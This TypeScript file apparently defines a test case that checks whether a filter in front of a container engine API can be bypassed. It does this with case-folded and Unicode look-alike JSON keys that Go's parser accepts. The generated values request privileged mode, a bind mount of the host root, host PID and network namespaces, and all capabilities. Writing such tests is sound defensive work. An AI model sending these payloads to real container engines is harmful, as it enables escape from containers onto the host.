import { type Attempt, texts, written } from './book';

export const attempt: Attempt = {
  title: 'write members in other case, which Go’s parser takes for the same',
  source: 'CVE class of case-folding JSON: `hostconfig` is `HostConfig` to an engine',
  try: (world) =>
    texts(world, [
      ...['hostconfig', 'HOSTCONFIG', 'hostConfig', 'HostCon\u017fig', 'Ho\u017ftConfig', '\\u0068ostconfig'].map((name) => written(world,
        `"${name}":{"Privileged":true},`)),
      ...['privileged', 'PRIVILEGED', 'binds', 'Bind\u017f', 'BINDS', 'pidmode', 'PidMODE', 'NetworkMode'.replace('k', '\u212a'),
        'networkmode', 'capadd', 'Mount\u017f', 'device\u017f', 'maskedpaths'].map((name) =>
        written(world, '',
          `"${name}":${/^(?:pid|net)/i.test(name) ? '"host"' : /^priv/i.test(name) ? 'true' : /cap/.test(name) ? '["ALL"]' : /mount/i.test(name) ? '[{"Type":"bind","Source":"/","Target":"/x"}]' : /masked/.test(name) ? '[]' : '["/:/x"]'},`)),
      ...['image', 'IMAGE'].map((name) => written(world, `"${name}":"alpine",`)), written(world, '',
        '"Mounts":[{"type":"bind","source":"/","target":"/x"}],'), written(world, '', '"LogConfig":{"type":"syslog"},'), written(world,
        '"runtime":"other",'),
    ]),
};
